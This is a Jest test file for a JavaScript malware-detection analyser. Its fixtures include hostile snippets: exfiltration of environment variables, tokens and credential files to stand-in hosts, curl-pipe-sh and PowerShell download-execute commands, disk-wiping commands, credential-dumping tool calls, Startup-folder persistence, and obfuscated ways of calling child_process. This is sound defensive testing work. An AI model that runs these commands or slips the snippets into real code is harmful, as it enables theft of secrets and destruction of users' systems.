import { describe, expect, it } from '@jest/globals';
import { readScript } from '../../../src/code/js/script.ts';

function found(source: string, kind: string): readonly string[] {
  return readScript(source, { module: false, parses: true })
    .spotted.filter((one) => one.kind === kind)
    .map(({ detail }) => detail);
}

describe('a value is followed through what holds it', () => {
  it('through a queue of the file and a local function', () => {
    const source = `
      const queue = [];
      function put(data) { queue.push(Array.from(data, (x) => x.toString(16)).join('')); flush(); }
      async function flush() { const item = queue.shift(); const part = (a, b) => item.slice(a, b); await fetch('https://pool.invalid/', { headers: { 'x-id': part(0, 32) } }); }
      exports.from = (secretKey) => { put(secretKey); };`;
    expect(found(source, 'exfiltration')).toEqual(['key material to pool.invalid']);
  });

  it('through objects spread into others, themselves among them, to an end', () => {
    const through = (object: string) => `const fs = require('fs'); ${object}; fs[o.read]('/etc/passwd'); f(o.missing);`;
    expect(() => found(through("let o = { read: 'readFileSync' }; o = { ...o, more: 1 }"), 'credential')).not.toThrow();
    const doubled = Array.from({ length: 40 }, (_, at) => `const o${at + 1} = { ...o${at}, ...o${at} };`).join(' ');
    expect(() => found(through(`const o0 = {}; ${doubled} const o = { ...o40 }`), 'credential')).not.toThrow();
    expect(found(through("const a = { read: 'readFileSync' }; const o = { ...a }"), 'credential')).toEqual(
      found(through("const o = { read: 'readFileSync' }"), 'credential'),
    );
  });

  it('through members of an object', () => {
    const source = `
      const fs = require('fs'), os = require('os'), out = {};
      for (const name of ['.npmrc', '.netrc']) out[name] = fs.readFileSync(os.homedir() + '/' + name, 'utf8');
      fetch('https://drop.invalid', { method: 'POST', body: JSON.stringify(out) });`;
    expect(found(source, 'exfiltration')[0]).toMatch(/credentials.* to drop\.invalid/);
  });

  it('but one variable of the environment is not the environment', () => {
    const source = `const get = (name) => process.env[name]; fetch('https://api.invalid/' + get('STAGE'));`;
    expect(found(source, 'exfiltration')).toEqual([]);
  });
});

describe('what a program may be is all it may be', () => {
  it('of both branches', () => {
    const source = `const { exec } = require('child_process'); exec(process.platform === 'win32' ? 'rd /s /q .' : 'rm -rf *');`;
    expect(found(source, 'destructive')).toEqual(['rd /s /q .', 'rm -rf *']);
  });

  it('of all rows of a table', () => {
    const source = `const read = { darwin: 'pbpaste', linux: 'xclip -o' }[process.platform]; require('child_process').exec(read);`;
    expect(found(source, 'clipboard')).toEqual(['pbpaste', 'xclip']);
  });

  it('of all a name is given', () => {
    const source = `let line; if (process.platform === 'darwin') line = 'curl https://a.invalid/x | sh'; else line = 'id'; require('child_process').execSync(line);`;
    expect(found(source, 'download-execute')).toHaveLength(1);
  });
});

describe('what runs text as code', () => {
  it('a worker of text', () => {
    const source = `const { Worker } = require('worker_threads'); fetch('https://a.invalid').then((r) => r.text()).then((code) => new Worker(code, { eval: true }));`;
    expect(found(source, 'remote-code')).toHaveLength(1);
  });

  it('the constructor that all functions have', () => {
    const data = JSON.stringify([...'require("fs")'].map((char) => char.charCodeAt(0) ^ 7));
    const source = `const s = ${data}.map((n) => String.fromCharCode(n ^ 7)).join(''); new (Object.getPrototypeOf(function () {}).constructor)('r', s)(require);`;
    expect(found(source, 'decode-execute').length).toBeGreaterThan(0);
  });

  it('a script of another language given to its program', () => {
    const source = `require('child_process').execFile('sudo', ['python3', '-c', "open('/proc/' + pid + '/mem', 'rb')"]);`;
    expect(found(source, 'credential-file')).toEqual(['memory of other processes, read']);
  });
});

it('a file that is written through a variable, and started, in what TypeScript makes of imports', () => {
  const source = `
    var __importDefault = (this && this.__importDefault) || function (mod) { return (mod && mod.__esModule) ? mod : { "default": mod }; };
    const fs_1 = __importDefault(require("fs")), https_1 = __importDefault(require("https")), child_process_1 = require("child_process");
    function ensure(target) { const out = fs_1.default.createWriteStream(target); https_1.default.get("https://files.invalid/x", (res) => { res.pipe(out); out.on("finish", () => (0, child_process_1.spawn)(target, [])); }); }`;
  expect(found(source, 'download-execute').length).toBeGreaterThan(0);
});

it('which platform it is says only which program fits', () => {
  expect(found(`const os = require('os'); fetch('https://bin.invalid/' + os.platform() + os.arch());`, 'exfiltration')).toEqual([]);
});

describe('further ways to start a program', () => {
  const b64 = (text: string) => Buffer.from(text).toString('base64');
  it.each([
    ['through Reflect', `Reflect.apply(require('child_process').exec, null, ['id'])`],
    ['through call', `const cp = require('child_process'); cp.exec.call(cp, 'id')`],
    ['by an encoded name', `require(atob('${b64('child_process')}')).exec('id')`],
    [
      'by a name of bytes',
      `require(new TextDecoder().decode(new Uint8Array([${[...'child_process'].map((c) => c.charCodeAt(0)).join()}]))).exec('id')`,
    ],
    ['by letters in reverse', `require([...'ssecorp_dlihc'].reverse().join('')).exec('id')`],
    ['of a copied module', `const cp = { ...require('child_process') }; cp.exec('id')`],
    ['of a getter', `const h = { get x() { return require('child_process') } }; h.x.exec('id')`],
    ['of a proxy', `new Proxy(require('child_process'), {}).exec('id')`],
    ['by a template', `require('node:child_process').execSync\`id\``],
    ['of what a made function gives', `Function('return require("child_process")')().exec('id')`],
    ['of the process a made function gives', `[].constructor.constructor('return process')().mainModule.require('child_process').exec('id')`],
    ['of the require of another module', `module.parent.require('child_process').exec('id')`],
    ['by a parameter that is require', `new Function('r', "r('child_process').exec('id')")(require)`],
    ['of a list of modules', `const mods = ['fs', 'child_process'].map(require); mods[1].exec('id')`],
    ['of a private field', `class X { #c = require('child_process'); run() { this.#c.exec('id') } } new X().run()`],
    ['of a member of the global object', `global.cp = require('child_process'); cp.exec('id')`],
    ['in a worker of an address', `new Worker('data:text/javascript,' + encodeURIComponent("require('child_process').exec('id')"))`],
    [
      'in a loader of an address',
      `require('module').register('data:text/javascript,' + encodeURIComponent("import { exec } from 'child_process'; exec('id')"))`,
    ],
    [
      'through a debugger',
      `new (require('inspector').Session)().post('Runtime.evaluate', { expression: "process.mainModule.require('child_process').exec('id')" })`,
    ],
  ])('%s', (_, source) => {
    expect(found(source, 'process').filter((detail) => detail === 'id')).toHaveLength(1);
  });

  it('but no regular expression is one', () => {
    expect(found(`const cp = require('child_process'); const re = /a/g; re.exec(text); lines.exec(line)`, 'process')).toEqual([
      'module child_process',
    ]);
  });
});

describe('what is sent is followed to where it was taken', () => {
  it.each([
    [
      'through a field',
      `class C { collect() { this.all = { env: process.env }; return this } send() { fetch('https://a.invalid', { body: JSON.stringify(this.all) }) } } new C().collect().send()`,
    ],
    [
      'through a function of a constant',
      `const post = (d) => { const r = require('https').request({ host: 'a.invalid' }); r.write(JSON.stringify(d)) }; post({ env: process.env })`,
    ],
    ['through the search of an address', `const u = new URL('https://a.invalid'); u.searchParams.set('e', JSON.stringify(process.env)); fetch(u)`],
    ['by a part of process', `const { env } = process; fetch('https://a.invalid', { body: JSON.stringify(env) })`],
    ['by an import of process', `const { env } = require('node:process'); fetch('https://a.invalid', { body: JSON.stringify(env) })`],
    ['from the output of a program', `const o = require('child_process').execSync('printenv').toString(); fetch('https://a.invalid', { body: o })`],
    [
      'by a client of a forge',
      `const { Octokit } = require('@octokit/rest'); new Octokit({}).repos.createFile({ content: JSON.stringify(process.env) })`,
    ],
  ])('%s', (_, source) => {
    expect(found(source, 'exfiltration').join()).toContain('the environment');
  });

  it('a token in a name that is looked up', () => {
    expect(found(`require('dns').lookup(Buffer.from(process.env.NPM_TOKEN).toString('hex') + '.a.invalid')`, 'dns-exfiltration')).toHaveLength(1);
  });
});

describe('what is run is followed to where it came from', () => {
  it.each([
    [
      'an import of fetched text',
      `fetch('https://a.invalid').then((r) => r.text()).then((t) => import('data:text/javascript,' + encodeURIComponent(t)))`,
    ],
    ['text of the name service', `require('dns').resolveTxt('a.invalid', (e, r) => { eval(r.join('')) })`],
    ['the output of a downloader', `eval(require('child_process').execSync('curl -s https://a.invalid').toString())`],
  ])('%s', (_, source) => {
    expect(found(source, 'remote-code').length).toBeGreaterThan(0);
  });

  it.each([
    [
      'by one command, and started by another',
      `const { execSync } = require('child_process'); execSync('wget https://a.invalid/x -O /tmp/x'); execSync('/tmp/x &')`,
    ],
    [
      'by a tool of the system',
      `const { execSync } = require('child_process'); execSync('certutil -urlcache -f https://a.invalid/x.exe %TEMP%\\\\x.exe'); execSync('%TEMP%\\\\x.exe')`,
    ],
    [
      'by PowerShell',
      `require('child_process').exec('powershell -c "iwr https://a.invalid/x.exe -OutFile $env:TEMP\\\\x.exe; Start-Process $env:TEMP\\\\x.exe"')`,
    ],
    [
      'by a function that is told where to',
      `const dl = (u, d) => new Promise((ok) => { const f = require('fs').createWriteStream(d); require('https').get(u, (r) => { r.pipe(f); f.on('finish', () => ok()) }) }); dl('https://a.invalid/x', '/tmp/x').then(() => { require('child_process').exec('/tmp/x') })`,
    ],
  ])('a program fetched %s', (_, source) => {
    expect(found(source, 'download-execute').length).toBeGreaterThan(0);
  });
});

describe('what destroys', () => {
  it.each([
    `require('child_process').exec('del /f /s /q C:\\\\*.*')`,
    `require('child_process').exec('format c: /y')`,
    `require('child_process').exec('find "$HOME" -type f -writable -delete')`,
    `require('child_process').exec('dd if=/dev/zero of=/dev/sda')`,
    `const fs = require('fs'), home = require('os').homedir(); for (const f of fs.readdirSync(home)) fs.rmSync(home + '/' + f, { recursive: true })`,
    `const fs = require('fs'), p = require('path'); function w(d) { for (const f of fs.readdirSync(d)) { const q = p.join(d, f); fs.statSync(q).isDirectory() ? w(q) : fs.writeFileSync(q, 'x') } } w(require('os').homedir())`,
  ])('%s', (source) => {
    expect(found(source, 'destructive')).toHaveLength(1);
  });

  it('emptying a folder of its own within the home folder does not', () => {
    const source = `const fs = require('fs'), p = require('path'), dir = p.join(require('os').homedir(), '.cache', 'tool'); for (const f of fs.readdirSync(dir)) fs.rmSync(p.join(dir, f)); function clear(d) { for (const f of fs.readdirSync(d)) fs.unlinkSync(p.join(d, f)) } clear(dir)`;
    expect(found(source, 'destructive')).toEqual([]);
  });
});

it('a place put together of parts is a place', () => {
  expect(
    found(
      `require('fs').writeFileSync(require('path').join(process.env.APPDATA, 'Microsoft', 'Windows', 'Start Menu', 'Programs', 'Startup', 'x.vbs'), 'x')`,
      'persistence',
    ),
  ).toHaveLength(1);
});

describe('what a request brings is no command', () => {
  it.each([
    `module.exports = () => (req, res, next) => { require('child_process').execSync(req.headers['x-run']); next() }`,
    `exports.handle = (ctx) => eval(ctx.query.code)`,
  ])('%s', (source) => {
    expect(found(source, 'remote-code').join()).toContain('of what a request brings');
  });
});

it('what a request brings may be input', () => {
  expect(
    found(`exports.go = (request) => require('child_process').execFileSync(process.execPath, [w], { input: request.headers.x })`, 'remote-code'),
  ).toEqual([]);
});

it('code that is written to a file and started is read', () => {
  const source = `const fs = require('fs'), f = '/tmp/x.js'; fs.writeFileSync(f, "require('https').get('https://poll.invalid/t')"); require('child_process').spawn(process.execPath, [f])`;
  expect(found(source, 'network')).toContain('poll.invalid');
  expect(found(`require('fs').writeFileSync('/tmp/x.js', "require('https').get('https://poll.invalid/t')")`, 'network')).toEqual([]);
});

it('tools that hand out credentials are asked for them', () => {
  for (const line of ['git credential fill', 'gcloud auth print-access-token', 'aws configure export-credentials', 'kubectl config view --raw'])
    expect(found(`require('child_process').execSync('${line}')`, 'credential-file')).toEqual([line]);
  expect(found(`require('child_process').execSync('git config --get remote.origin.url')`, 'credential-file')).toEqual([]);
});

describe('a pipe named after the user', () => {
  const named = "const net = require('node:net'), os = require('node:os'); const name = os.userInfo().username;";
  it('is a place on this machine, whether named in place or before', () => {
    expect(found(`${named} net.createConnection(os.tmpdir() + '/tool-' + name + '.pipe', () => {});`, 'exfiltration')).toEqual([]);
    expect(found(`${named} const at = '/tmp/' + name; net.connect(at).on('error', () => {});`, 'exfiltration')).toEqual([]);
  });

  it('is not a host named after the user, nor what is written to one', () => {
    expect(found(`${named} net.connect(53, name + '.drop.invalid');`, 'exfiltration')).toHaveLength(1);
    expect(found(`${named} net.connect({ port: 53, host: name + '.drop.invalid' });`, 'exfiltration')).toHaveLength(1);
    expect(found(`${named} const o = { host: name + '.drop.invalid', port: 9 }; net.connect(o, () => {});`, 'exfiltration')).toHaveLength(1);
    expect(found(`${named} const s = net.connect(9, 'drop.invalid'); s.write(name);`, 'exfiltration')).toHaveLength(1);
  });
});

describe('a program that only asks the system', () => {
  const decoded = "const { exec } = require('child_process'); const from = (line) => decodeURIComponent(line.replace(/x/g, '%'));";
  it('may be given a name that was decoded', () => {
    expect(found(`${decoded} exports.disk = (line) => exec(\`lsblk -b /dev/\${from(line)}\`);`, 'decode-execute')).toEqual([]);
  });

  it('but not where it is one of several commands, or may be another', () => {
    expect(found(`${decoded} exports.disk = (line) => exec(\`lsblk; \${from(line)}\`);`, 'decode-execute')).toHaveLength(1);
    expect(found(`${decoded} exports.disk = (line) => exec(\`sh \${from(line)}\`);`, 'decode-execute')).toHaveLength(1);
    expect(found(`${decoded} exports.disk = (line) => exec(from(line));`, 'decode-execute')).toHaveLength(1);
  });
});
